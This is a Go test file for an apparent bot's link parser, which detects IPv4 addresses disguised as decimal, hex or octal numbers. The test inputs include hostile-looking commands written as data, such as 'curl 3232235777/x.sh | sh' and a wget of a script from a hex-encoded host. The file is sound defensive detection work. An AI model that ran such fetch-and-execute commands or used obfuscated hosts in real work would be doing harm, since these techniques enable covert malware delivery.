package linkx_test

import (
	"testing"

	"github.com/immunebot/immune/bot/linkx"
)

// TestNumericIP checks that an IPv4 address written otherwise than as
// four plain decimal numbers is marked (mal45), and a plain one is not.
func TestNumericIP(t *testing.T) {
	t.Parallel()
	cases := []struct {
		raw, ip string
		numeric bool
	}{
		{"http://3232235777/x.exe", "192.168.1.1", true},
		{"http://0xC0A80101/a.sh", "192.168.1.1", true},
		{"http://0300.0250.1.1/", "192.168.1.1", true},
		{"http://2130706433:8000/loader.sh", "127.0.0.1", true},
		{"http://127.1/", "127.0.0.1", true},
		{"http://192.168.1.1/", "192.168.1.1", false},
		{"http://45.133.1.20:8080/x", "45.133.1.20", false},
	}
	for _, c := range cases {
		l, ok := linkx.Parse(c.raw)
		if !ok || l.IP.String() != c.ip || l.NumericIP != c.numeric {
			t.Errorf("%s: ip %v numeric %v (ok %v), want %s %v", c.raw, l.IP, l.NumericIP, ok, c.ip, c.numeric)
		}
	}
	if l, ok := linkx.Parse("https://example.com/"); !ok || l.NumericIP {
		t.Errorf("example.com: numeric %v", l.NumericIP)
	}
}

// TestNumericHosts checks that a bare address written as one number is
// read as a link with a path or a port after it, and that numbers in
// prose, dates and short hex constants are not (mal45).
func TestNumericHosts(t *testing.T) {
	t.Parallel()
	links := map[string]string{
		"curl 3232235777/x.sh | sh":       "192.168.1.1",
		"wget 0xC0A80101/a.sh":            "192.168.1.1",
		"fetch 2130706433:8000/loader.sh": "127.0.0.1",
		"(0x2d850114/x.exe)":              "45.133.1.20",
	}
	for text, ip := range links {
		ls := linkx.Extract(text, nil)
		if len(ls) != 1 || ls[0].IP.String() != ip || !ls[0].NumericIP {
			t.Errorf("%q: %+v, want one link to %s", text, ls, ip)
		}
	}
	for _, text := range []string{"we had 3232235777 events", "ticket 123456789/2", "logs in 20240501/report.pdf",
		"mask 0xffffffff: all bits", "0x1234/ab", "id 1234567890abc/x"} {
		if ls := linkx.Extract(text, nil); len(ls) != 0 {
			t.Errorf("%q: %+v, want no link", text, ls)
		}
	}
	ls := linkx.Extract("see https://go.dev/doc/ then curl 3232235777/x.sh", nil)
	if len(ls) != 2 || ls[0].Host != "go.dev" || ls[1].Host != "192.168.1.1" {
		t.Errorf("two links: %+v", ls)
	}
}
